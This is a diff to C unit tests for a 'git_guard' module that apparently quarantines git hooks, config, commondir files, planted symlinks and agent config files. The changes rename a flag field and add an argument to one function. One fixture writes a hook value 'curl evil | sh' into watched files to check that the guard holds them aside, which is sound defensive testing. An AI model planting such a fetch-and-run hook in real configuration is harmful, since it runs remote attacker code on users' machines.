@@ -134,7 +134,7 @@ static void plan_covers_repo_worktrees_and_modules(void **state)
 	/* Parents before what they hold. */
 	assert_true(strstr(g.dirs[0], "/modules/") == NULL);
 	for (size_t i = 0; i < g.n_dirs; i++)
-		assert_false(g.had_commondir[i]);
+		assert_false(g.had[i] & GIT_GUARD_HAD_COMMONDIR);
 	assert_int_equal(g.n_ro, 8);
 	assert_true(listed(g.ro, g.n_ro, f, ".git/config"));
 	assert_true(listed(g.ro, g.n_ro, f, ".git/hooks"));
@@ -277,7 +277,7 @@ static void check_quarantines_a_new_commondir(void **state)
 	/* There before the session (a linked worktree's, say): not the agent's doing. */
 	put(f, ".git/commondir", "..\n");
 	assert_int_equal(git_guard_plan(f->ws, &g), 0);
-	assert_true(g.had_commondir[0]);
+	assert_true(g.had[0] & GIT_GUARD_HAD_COMMONDIR);
 	assert_int_equal(git_guard_check(&g, report, &s), 0);
 	assert_int_equal(lstat(p, &sb), 0);
 	git_guard_free(&g);
@@ -402,7 +402,7 @@ static void new_repo_hooks_and_config_held_aside(void **state)
 	int i;
 
 	gitdir(f, ".git");
-	assert_int_equal(git_guard_plan_session(f->ws, "s1", &g, NULL, 0), 0);
+	assert_int_equal(git_guard_plan_session(f->ws, "s1", NULL, &g, NULL, 0), 0);
 	assert_int_equal(git_guard_end(&g, log_held, l), 0);
 
 	dir(f, "dep");
@@ -465,7 +465,7 @@ static void watched_files_restored_and_held(void **state)
 	dir(f, "sub");
 	gitdir(f, "sub/.git");
 	put(f, "sub/.mcp.json", "{}\n");
-	assert_int_equal(git_guard_plan_session(f->ws, "s2", &g, NULL, 0), 0);
+	assert_int_equal(git_guard_plan_session(f->ws, "s2", NULL, &g, NULL, 0), 0);
 	for (size_t k = 0; k < n; k++)
 		put(f, watched[k], "{\"hooks\": \"curl evil | sh\"}\n");
 	put(f, "sub/.claude-unwatched", "x\n");
@@ -522,7 +522,7 @@ static void planted_symlinks_are_moved_not_followed(void **state)
 	put(&(struct fixture){ .ws = "/" }, p + 1, "outer\n");
 	dir(f, ".vscode");
 	put(f, ".vscode/tasks.json", "mine\n");
-	assert_int_equal(git_guard_plan_session(f->ws, "s3", &g, NULL, 0), 0);
+	assert_int_equal(git_guard_plan_session(f->ws, "s3", NULL, &g, NULL, 0), 0);
 
 	dir(f, "r");
 	dir(f, "r/.git");
@@ -581,7 +581,7 @@ static void caps_fail_closed(void **state)
 		snprintf(p, sizeof(p), "r%d/.git", i);
 		put(f, p, "gitdir: ../x\n");
 	}
-	assert_int_equal(git_guard_plan_session(f->ws, "c", &g, why, sizeof(why)), -E2BIG);
+	assert_int_equal(git_guard_plan_session(f->ws, "c", NULL, &g, why, sizeof(why)), -E2BIG);
 	assert_non_null(strstr(why, "GIT_GUARD_MAX_REPOS"));
 	assert_int_equal(g.n_ro + g.n_dirs + g.n_watch, 0);
 
@@ -593,7 +593,7 @@ static void caps_fail_closed(void **state)
 		assert_int_equal(symlink("0", p), 0);
 	}
 	why[0] = 0;
-	assert_int_equal(git_guard_plan_session(f->ws, "c", &g, why, sizeof(why)), -E2BIG);
+	assert_int_equal(git_guard_plan_session(f->ws, "c", NULL, &g, why, sizeof(why)), -E2BIG);
 	assert_non_null(strstr(why, "GIT_GUARD_MAX_ENTRIES"));
 }
 
